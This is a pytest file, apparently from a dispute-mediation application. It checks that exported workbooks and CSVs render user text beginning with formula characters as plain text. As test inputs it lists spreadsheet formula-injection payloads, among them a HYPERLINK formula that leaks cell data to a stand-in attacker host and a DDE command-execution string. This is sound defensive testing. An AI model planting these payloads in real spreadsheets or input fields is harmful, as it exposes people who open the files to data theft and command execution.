"""Every workbook and CSV jiefen writes, scanned for formula cells fed by people's text: a title,
description, party name or category name that starts like a formula must arrive as text."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from jiefen.disputes.models import Category
from jiefen.disputes.services import PartyInput
from jiefen.disputes.tests.conftest import at, register
from jiefen.lib.cells import DANGEROUS_START
from jiefen.meetings.circulars import circular_figures, circular_files
from jiefen.metrics.periods import Period
from jiefen.privacy import lookup
from jiefen.privacy.subject import subject_export
from jiefen.spreadsheets.models import ImportJob
from jiefen.spreadsheets.tests.conftest import content_of, download

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#DIV/0!",
]


def _formula_cells(raw: bytes) -> list[str]:
    """Where a workbook has a formula, an error cell, or text that starts like a formula."""
    book = openpyxl.load_workbook(io.BytesIO(raw))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                if cell.data_type in ("f", "e"):
                    found.append(f"{sheet.title}!{cell.coordinate} {cell.data_type}")
                elif isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_START):
                    found.append(f"{sheet.title}!{cell.coordinate} {cell.value!r}")
    return found


def _csv_formulas(text: str) -> list[str]:
    return [
        value
        for line in csv.reader(io.StringIO(text.lstrip("\ufeff")))
        for value in line
        if value.startswith(DANGEROUS_START)
    ]


@pytest.fixture
def hostile(world, village_clerk):
    """A dispute registered with hostile text everywhere (as through the API or Open311) and a
    category renamed by an administrator to a formula."""
    category = Category.objects.get(key="neighbourhood")
    category.name = "=cmd|' /C calc'!A0"
    category.save()
    phone = "13812345678"
    register(
        world,
        village_clerk,
        when=at(2026, 3, 2),
        title=HOSTILE[0],
        description=HOSTILE[1],
        category=category,
        parties=[
            PartyInput(side="applicant", name="=A1", phone=phone),
            PartyInput(side="respondent", name="-1+1"),
            PartyInput(side="respondent", name="@x"),
        ],
    )
    for text in HOSTILE[2:]:
        register(world, village_clerk, when=at(2026, 3, 3), title=text.strip() or "x")
    return phone


def test_the_dispute_export_writes_text_as_text_masked_and_unmasked(
    client, hostile, village_clerk, export
):
    client.force_login(village_clerk)
    masked = content_of(download(client, export()[1]))
    assert _formula_cells(masked) == []
    full = content_of(download(client, export(reason="核对台账")[1]))
    assert _formula_cells(full) == []
    rows = list(openpyxl.load_workbook(io.BytesIO(masked)).worksheets[0].values)
    titles = {r[6] for r in rows[1:]}
    assert "'" + HOSTILE[0] in titles  # kept, shown literally
    assert "'=*" in {r[10].split("，")[0] for r in rows[1:] if r[10]}  # masked "=A1"


def test_the_import_template_and_error_report_hold_no_formula(client, hostile, village_clerk):
    client.force_login(village_clerk)
    template = client.get(reverse("spreadsheets:template"))
    assert _formula_cells(template.content) == []
    job = ImportJob.objects.create(
        actor=village_clerk,
        filename="x.xlsx",
        digest="0" * 64,
        status=ImportJob.State.REFUSED,
        errors=[[2, "=1+2", "-值“=cmd”无效"], [3, "\t=1", "@x"]],
    )
    report = client.get(reverse("spreadsheets:errors", args=[job.pk]))
    assert report.status_code == 200
    assert _csv_formulas(report.content.decode("utf-8")) == []


def test_the_circular_workbook_holds_no_formula(hostile, world):
    figures = circular_figures(
        world.bodies["枫桥镇"],
        Period("half", date(2026, 3, 1), date(2026, 3, 15)),
        date(2026, 3, 20),
    )
    figures |= {"generated_at": at(2026, 3, 20).isoformat(), "number": {"year": 2026, "seq": 1}}
    _docx, xlsx = circular_files(figures)
    assert _formula_cells(xlsx) == []


def test_the_subject_access_export_holds_no_formula(hostile, village_clerk):
    export = subject_export(
        actor=village_clerk, digest=lookup.digest(hostile), reason="本人申请", fmt="xlsx"
    )
    assert _formula_cells(export.content) == []


def test_the_metrics_export_holds_no_formula(client, hostile, town_head):
    client.force_login(town_head)
    response = client.get(reverse("metrics:export"), {"period": "month", "on": "2026-03-01"})
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
